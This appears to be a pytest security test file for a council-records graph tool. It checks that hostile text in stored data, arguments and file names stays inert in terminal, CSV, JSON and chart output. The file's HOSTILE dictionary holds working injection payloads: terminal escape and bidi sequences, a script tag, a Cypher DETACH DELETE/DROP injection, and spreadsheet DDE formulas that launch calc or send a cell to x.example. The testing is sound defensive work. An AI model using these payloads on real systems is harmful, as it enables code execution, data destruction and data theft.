"""Papers and questions that somebody made to do harm: nothing in them reaches the terminal, a spreadsheet or the engine as more than text."""

import csv
import io
import json
import re
from itertools import cycle
from pathlib import Path

import pytest
import yaml
from sederunt.cli.text import safe
from sederunt.graph.model import Graph, difference
from sederunt.graph.store import open_store

from tests.cli.test_main import start

HOSTILE = {
    "colours": "Ann \x1b[31mHale\x1b[0m \x1b]0;owned\x07 \x9b2J",
    "cursor": "Ann\x08\x08\x08Eve\r\x1b[2K\x00\x7f",
    "direction": "Ann \u202eelaH\u202c \u2066x\u2069 \u200f\u061c\ufeff\u200b",
    "tags": "Ann\U000e0041\U000e0042 \ufff9x\ufffb\u206a\u180e",
    "lines": "Ann\nHale\u2028and\u2029Eve\x85more\x0b\x0c",
    "markup": "<script>alert(1)</script> <b>&amp; **bold** [link](javascript:x) [red]x[/red]",
    "cypher": "'}) DETACH DELETE n // \" ` $body {x: 1} /* */ ; DROP",
    "emoji": "Ann 👩🏽‍💻 🏴󠁧󠁢󠁷󠁬󠁳󠁿 e\u0301\u0301\u0301 会議 \ud83d",
    "long": "Hale " * 2000,
    "word": "x" * 10_000,
    "formula": '=HYPERLINK("http://x.example/?"&A1,"Ann")',
    "plus": "+44 1632 960000|'cmd'!A1",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "return": "\r=1+1",
    "wide": "＝1+1",
}
TOLD = ("name", "quote", "source", "text", "title", "venue", "owner_text", "role_text", "subject_text", "date_text")
COMMANDS = {
    "who": ("who", "person:ann-hale", "--evidence"),
    "body": ("body", "body:vale-schools-forum", "--evidence"),
    "boards": ("boards", "--evidence"),
    "attendance": ("attendance", "body:vale-schools-forum", "--evidence"),
    "actions": ("actions", "--evidence"),
    "documents": ("documents",),
    "ask": ("ask", "members", "body=body:vale-schools-forum", "--evidence"),
    "status": ("status",),
    "cypher": ("cypher", "MATCH (n)-[r]->(m) RETURN n, r, m, n.name AS name"),
}


# As an engine can hold them: half a character it cannot.
TEXTS = [text.encode("utf-8", "replace").decode() for text in HOSTILE.values()]


@pytest.fixture(scope="module")
def evil(tmp_path_factory):
    """The council's graph in which all that is told is hostile, one text after the other."""
    texts = cycle(TEXTS)
    written = yaml.safe_load((Path(__file__).parents[1] / "queries" / "council.yaml").read_text(encoding="utf-8"))
    for each in (*written["nodes"], *written["edges"]):
        each["properties"] = {k: next(texts) if k in TOLD else v for k, v in each.get("properties", {}).items()}
    path = tmp_path_factory.mktemp("evil") / "evil.graph"
    with open_store(path, create=True) as store:
        store.apply(difference(Graph(), Graph(nodes=written["nodes"], edges=written["edges"])))
    return path


def steers(text: str) -> set[str]:
    return {character for line in text.split("\n") for character in line if safe(character) != character}


@pytest.mark.parametrize("words", COMMANDS.values(), ids=COMMANDS)
def test_tables_are_harmless(sederunt, evil, words):
    result = sederunt(*words, on=evil)
    assert result.exit_code == 0, result.stderr
    assert not steers(result.stdout + result.stderr)


@pytest.mark.parametrize("words", COMMANDS.values(), ids=COMMANDS)
def test_csv_has_no_formulas(sederunt, evil, words):
    result = sederunt(*words, "--format", "csv", on=evil)
    assert result.exit_code == 0, result.stderr
    cells = [cell for row in csv.reader(io.StringIO(result.stdout, newline="")) for cell in row]
    assert not [cell for cell in cells if re.match(r"[=+\-@\t\r\n＝＋－＠](?![\d.]+$)", cell)]


@pytest.mark.parametrize("words", COMMANDS.values(), ids=COMMANDS)
def test_json_is_never_altered(sederunt, evil, words):
    result = sederunt(*words, "--format", "json", on=evil)
    assert not steers(result.stdout)
    if words[0] == "cypher":
        assert {record["name"] for record in json.loads(result.stdout)} <= {*TEXTS, None}


@pytest.mark.parametrize("drawing", ["tree", "mermaid", "dot"])
def test_charts_are_harmless(sederunt, evil, drawing):
    result = sederunt("chart", "unit:marlow-vale-council/education", "--format", drawing, "--evidence", on=evil)
    assert result.exit_code == 0, result.stderr
    assert not steers(result.stdout)
    assert "<script>" not in result.stdout or drawing != "mermaid"


def test_the_graph_is_exported_true(sederunt, evil):
    nodes = json.loads(sederunt("export", "json", on=evil).stdout)["nodes"]
    assert {*TEXTS} <= {value for node in nodes for value in node["properties"].values() if isinstance(value, str)}


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)
def test_questions_are_only_text(sederunt, graph, text):
    before = sederunt("export", "json").stdout
    for words in (
        ("who", "--", text),
        ("find", "--", text),
        ("show", "--", text),
        ("chart", "--", text),
        ("ask", "members", f"body={text}"),
        ("ask", "--", text),
        ("queries", "--", text),
        ("export", "--", text),
        ("cypher", "--", text),
        ("cypher", "--", "MATCH (p:Person) WHERE p.name = $x RETURN p", f"x={text}"),
        ("cypher", "--", "RETURN 1 AS x", f"{text}=1"),
        ("cypher", f"RETURN `{text}` AS x"),
        ("status", "--format", text),
    ):
        result = sederunt(*words)
        assert result.exit_code in (0, 1, 2), (words, result.exception)
        assert result.exception is None or isinstance(result.exception, SystemExit), words
        assert "\n" not in result.stderr.removesuffix("\n") or words[0] == "status"
        assert not steers(result.stdout + result.stderr) or words[0] == "status"
    assert sederunt("export", "json").stdout == before


@pytest.mark.parametrize("text", [HOSTILE["colours"], HOSTILE["direction"], HOSTILE["markup"], HOSTILE["formula"]])
def test_what_the_program_says_is_harmless(graph, text):
    for words in (
        (text,),
        ("status", "--format", text),
        ("who", "--", text),
        ("--graph", text, "status"),
        ("load", "--", text),
    ):
        clean = [word.replace("\x00", "") for word in words]
        result = start("--graph", graph, *clean)
        assert result.returncode in (1, 2, 3)
        assert len(result.stderr.splitlines()) == 1
        assert not steers(result.stdout + result.stderr)


def test_names_of_files_are_harmless(sederunt, papers, tmp_path):
    names = ["\x1b[31mred.txt", "\u202etxt.exe.txt", "=1+1.txt", "a\nb.txt", "'}) DELETE n.txt", "-x.txt"]
    minutes = (papers / "2019" / "forum.txt").read_text(encoding="utf-8")
    for name in names:
        (papers / name).write_text(minutes, encoding="utf-8")
    (papers / "\x1b[31mbroken.txt").write_bytes(b"\xff\xfe\x00\xd8\x00")
    target = tmp_path / "files.graph"
    results = [sederunt("load", papers, on=target), sederunt("documents", on=target)]
    for name in names:
        results += [sederunt("show", "--", name, on=target), sederunt("forget", "--", name, on=target)]
    assert not [result for result in results if steers(result.stdout + result.stderr)]
    assert [result.exit_code for result in results][2:] == [0] * 2 * len(names)
    left = json.loads(sederunt("documents", "--format", "json", on=target).stdout)
    assert "forum.txt" in json.dumps(left)
    assert not set(names) & {value for record in left for value in record.values() if isinstance(value, str)}
